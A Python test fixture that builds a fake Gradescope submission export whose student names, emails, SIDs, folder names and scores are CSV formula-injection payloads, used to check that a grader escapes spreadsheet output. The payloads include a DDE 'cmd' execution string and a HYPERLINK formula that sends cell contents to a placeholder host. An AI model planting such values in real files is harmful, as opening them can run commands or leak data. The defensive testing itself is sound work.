"""A Gradescope export whose students' names, emails and SIDs are built to run in a spreadsheet.

Written from docs/regrading.md, docs/class-report.md and docs/instructor-guide.md alone: the export is one
folder per submission and a `submission_metadata.yml` naming each folder's submitters. Every value a
student controls (name, email, SID) and every folder name here begins with a formula character (`=`, `+`,
`-`, `@`, a tab, a carriage return) or holds quotes, commas and line breaks; the Gradescope scores
(`:score:`) are values that are not plain numbers. The submissions are correct, so every score the grader
writes is a number to check.

    python tests/cheats/surfaces/class_csv/export.py OUT CORRECT_NGRAM_PY   # writes OUT/export/
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

# The payloads: each begins with a formula character or holds a CSV delimiter.
FORMULAS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"Ada")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '"=1+1"',
    "'=1+1",
    "x\n=1+1",
    "a,b,=1+1",
    'quo"te,=1+1',
    "\r\n=1+1",
)


def _yaml_string(text: str) -> str:
    """A YAML double-quoted scalar (JSON's string syntax is YAML's)."""
    return json.dumps(text)


# Folder names: each one a formula too (a folder the metadata does not list is named by its folder), some
# in bytes that are not UTF-8 (the outputs spell them `\xe9`: the spelling must not undo the escape).
UNLISTED_FOLDERS = ("=1+1", "+2+3", "-4+5", "@SUM(A1)", "\t=6+7", 'a,b"c') + tuple(
    os.fsdecode(name) for name in (b"=\xe9+1", b"\t\xff=2", b"-\xe9", b"@\xe9(A1)")
)


def write(out: Path, ngram_py: str) -> Path:
    """The export, as OUT/export, with one correct `ngram.py` in every folder."""
    export = out / "export"
    export.mkdir(parents=True)
    entries = []
    # One group of every payload as names, one as emails, one as SIDs; and SIDs as YAML numbers.
    for number, field in enumerate((":name:", ":email:", ":sid:"), start=1):
        submitters = "".join(
            f"  - {field} {_yaml_string(payload)}\n"
            + "".join(
                f"    {other} {_yaml_string('plain' + str(i))}\n"
                for other in (":name:", ":email:", ":sid:")
                if other != field
            )
            for i, payload in enumerate(FORMULAS)
        )
        entries.append((f"submission_{number}", submitters, "87.5"))
    entries.append(("submission_4", "  - :name: Negative SID\n    :email: neg@example.edu\n    :sid: -100\n", "-5"))
    entries.append(("submission_5", "  - :name: Float SID\n    :email: f@example.edu\n    :sid: -1.5e3\n", ".nan"))
    entries.append(("submission_6", "  - :name: Formula score\n    :email: s@example.edu\n    :sid: '6'\n", '"=1+1"'))
    entries.append(("submission_7", "  - :name: Infinite score\n    :email: i@example.edu\n    :sid: '7'\n", "-.inf"))
    entries.append(("=submission_8", "  - :name: '-x'\n    :email: '@x'\n    :sid: '+8'\n", "'-3'"))
    metadata = "".join(
        f"{_yaml_string(folder)}:\n  :submitters:\n{submitters}  :created_at: 2026-03-02 17:41:07.000000000 -08:00\n"
        f"  :score: {score}\n"
        for folder, submitters, score in entries
    )
    (export / "submission_metadata.yml").write_text(metadata, encoding="utf-8")
    for folder in [entry[0] for entry in entries] + list(UNLISTED_FOLDERS):
        (export / folder).mkdir()
        (export / folder / "ngram.py").write_text(ngram_py, encoding="utf-8")
    return export


if __name__ == "__main__":
    write(Path(sys.argv[1]), Path(sys.argv[2]).read_text(encoding="utf-8"))
